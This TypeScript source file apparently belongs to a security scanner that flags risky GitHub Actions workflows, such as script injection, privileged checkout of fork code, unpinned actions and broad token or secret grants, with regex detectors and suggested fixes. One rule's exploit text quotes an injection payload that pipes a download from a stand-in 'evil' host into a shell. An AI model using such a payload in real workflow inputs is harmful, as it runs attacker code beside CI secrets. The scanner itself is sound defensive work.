import { candidateOf } from './apply-rules.ts'
import type { Candidate } from './candidate.ts'
import type { RiskRule } from './risk-rule.ts'
import type { ScannedFile, ScannedLine } from './scanned-file.ts'

type Row = Omit<RiskRule, 'languages' | 'pattern' | 'unless'>

const injection: Row = {
  id: 'gha-script-injection',
  ...{
    cwe: 'CWE-94',
    severity: 'critical',
    confidence: 0.9,
    title: "A stranger's text becomes part of a workflow's script",
  },
  exploit:
    'A title, branch name or comment such as `"; curl evil | sh; "` is pasted into the script before it runs, beside the secrets and the token of the job.',
  fix: 'Put the value into `env:` and use the variable, quoted, in the script.',
}

const pwnRequest: Row = {
  id: 'gha-untrusted-checkout',
  ...{
    cwe: 'CWE-829',
    severity: 'critical',
    confidence: 0.8,
    title: "A privileged workflow checks out a stranger's code",
  },
  exploit:
    'A pull request from a fork changes a script, a dependency or a hook that this job runs with secrets and a writing token.',
  fix: 'Use `pull_request`, or split: build without secrets, then publish in a `workflow_run` job that runs nothing of it.',
}

const unpinned: Row = {
  id: 'gha-unpinned-action',
  ...{ cwe: 'CWE-829', severity: 'low', confidence: 0.8, title: 'An action that is not pinned to a commit' },
  exploit: 'Whoever takes over its repository moves the tag, and the new code runs here with the token of the job.',
  fix: 'Name the full commit hash, with the version as a comment.',
}

const writeAll: Row = {
  id: 'gha-write-all',
  ...{ cwe: 'CWE-269', severity: 'medium', confidence: 0.85, title: 'A token that may do everything' },
  exploit: 'Any step that is taken over can push, release and change settings.',
  fix: 'List what the job needs under `permissions:`.',
}

const allSecrets: Row = {
  id: 'gha-all-secrets',
  ...{
    cwe: 'CWE-200',
    severity: 'high',
    confidence: 0.85,
    title: 'All secrets of the repository are handed to one step',
  },
  exploit: 'The step, and what it calls, can read keys that it has no business with.',
  fix: 'Pass the one secret that is needed.',
}

const oldCommands: Row = {
  id: 'gha-unsecure-commands',
  ...{
    cwe: 'CWE-94',
    severity: 'high',
    confidence: 0.9,
    title: 'Workflow commands that set variables from any output',
  },
  exploit: 'Text that a step prints sets environment variables, and with them what later steps run.',
  fix: 'Remove the setting; write to `$GITHUB_ENV` instead.',
}

/** What an outsider writes freely. */
const foreign =
  /\$\{\{[^}]*\bgithub\.(?:head_ref|event\.(?:(?:issue|pull_request|discussion)\.(?:title|body)|(?:comment|review|review_comment)\.body|pull_request\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage))|head_commit\.(?:message|author\.(?:name|email))|commits\b|pages\b|workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:name|email))|display_title)|client_payload\b|inputs\b))/

const foreignCheckout =
  /\bref\s*:\s*["']?(?:\$\{\{[^}]*\bgithub\.(?:event\.pull_request\.head\.(?:sha|ref)|event\.workflow_run\.head_(?:sha|branch)|head_ref)|refs\/pull\/[^\s]*\$\{\{)|\bgh\s+pr\s+checkout\b|\brepository\s*:\s*["']?\$\{\{[^}]*\bhead\.repo/

const privileged =
  /^\s*-?\s*["']?(?:pull_request_target|workflow_run|issue_comment)["']?\s*:?\s*(?:#.*)?$|^\s*["']?on["']?\s*:.*\b(?:pull_request_target|workflow_run|issue_comment)\b/

/** Flaws of a GitHub Actions workflow or action that take more than one line to see. */
export const checkWorkflow = (file: ScannedFile): Candidate[] => {
  const lines = file.lines.filter(({ text }) => !/^\s*#/.test(text) && text.length <= 2_000)
  const scripts = scriptLines(lines)
  const trigger = lines.find(({ text }) => privileged.test(text))
  return lines.flatMap(line => {
    const rows = [
      ...(line.isNew ? ownFlaws(line, scripts.has(line.number)) : []),
      ...(trigger && foreignCheckout.test(line.text) && (line.isNew || trigger.isNew) ? [pwnRequest] : []),
    ]
    return rows.map(row => candidateOf(row, file.path, line))
  })
}

const ownFlaws = ({ text }: ScannedLine, isScript: boolean): Row[] => [
  ...(isScript && foreign.test(text) ? [injection] : []),
  ...(isUnpinned(text) ? [unpinned] : []),
  ...(/^\s*["']?permissions["']?\s*:\s*["']?write-all\b/.test(text) ? [writeAll] : []),
  ...(/\btoJSON\s*\(\s*secrets\s*\)/i.test(text) ? [allSecrets] : []),
  ...(/\bACTIONS_ALLOW_UNSECURE_COMMANDS\b\s*:\s*["']?true/.test(text) ? [oldCommands] : []),
]

/** `actions/` and `github/` are GitHub's own, which runs the job anyway. */
const isUnpinned = (text: string): boolean => {
  const uses = /^\s*-?\s*uses\s*:\s*["']?([^\s"'#]+)/.exec(text)?.[1]
  if (uses === undefined || /^(?:\.|docker:\/\/[^@]*@sha256:|actions\/|github\/)/.test(uses)) return false
  return !/@[0-9a-f]{40,64}$/.test(uses)
}

/** Numbers of the lines that a shell, or github-script, will run. */
const scriptLines = (lines: readonly ScannedLine[]): Set<number> => {
  const found = new Set<number>()
  let indent: number | null = null
  for (const { number, text } of lines) {
    const depth = text.length - text.trimStart().length
    if (indent !== null && text.trim() !== '' && depth <= indent) indent = null
    if (indent !== null) found.add(number)
    const key = /^(\s*(?:-\s+)?)["']?(?:run|script)["']?\s*:(.*)$/.exec(text)
    if (!key) continue
    found.add(number)
    if (/^\s*(?:[|>][-+0-9]*\s*(?:#.*)?)?$/.test(key[2] ?? '')) indent = key[1]?.length ?? 0
  }
  return found
}
